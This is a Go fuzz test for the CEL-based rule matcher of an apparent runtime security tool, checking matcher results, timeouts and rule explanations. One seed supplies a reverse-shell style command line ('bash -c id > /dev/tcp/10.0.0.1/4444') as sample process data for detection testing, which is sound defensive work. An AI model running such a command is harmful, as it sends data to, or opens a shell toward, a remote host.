package match_test

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"

	"github.com/procession-dev/procession/internal/policy/match"
	"github.com/procession-dev/procession/internal/policy/match/matchtest"
)

// Any text that compiles, about any event: what CEL says.
func FuzzMatcher(f *testing.F) {
	for i, src := range matchtest.Written() {
		f.Add(src, uint64(i), "bash\x00-c\x00id > /dev/tcp/10.0.0.1/4444\x00", "/usr/bin/bash")
	}
	r := rand.New(rand.NewPCG(3, 3))
	for i := range 40 {
		f.Add(matchtest.Condition(r, 3), uint64(i), "x\x00\xff\x00", "/tmp/\xff\xfe")
	}
	env, s := newScope(f)
	a := env.NewActivation("n1")
	f.Fuzz(func(t *testing.T, src string, seed uint64, cmdline, exe string) {
		watchdog := time.AfterFunc(10*time.Second, func() { panic(fmt.Sprintf("%q takes more than ten seconds", src)) })
		defer watchdog.Stop()
		x, err := s.Condition(src)
		if err != nil {
			return
		}
		rules := []match.Rule{{Condition: x, Kinds: allKinds()}}
		m, err := match.New(env, rules)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		r := rand.New(rand.NewPCG(seed, seed))
		for i := range 4 {
			ev := matchtest.Random(r)
			if i < 2 {
				ev.Process.Cmdline, ev.Process.CmdlineLen, ev.Process.Exe = cmdline, uint32(len(cmdline)), exe
			}
			compare(t, m, rules, a, ev, all(1))
			for _, term := range m.Explain(a, 0, 100) {
				if term.Text == "" || term.Line < 0 {
					t.Fatalf("%q: term %+v", src, term)
				}
			}
		}
		m.Rule(0)
	})
}
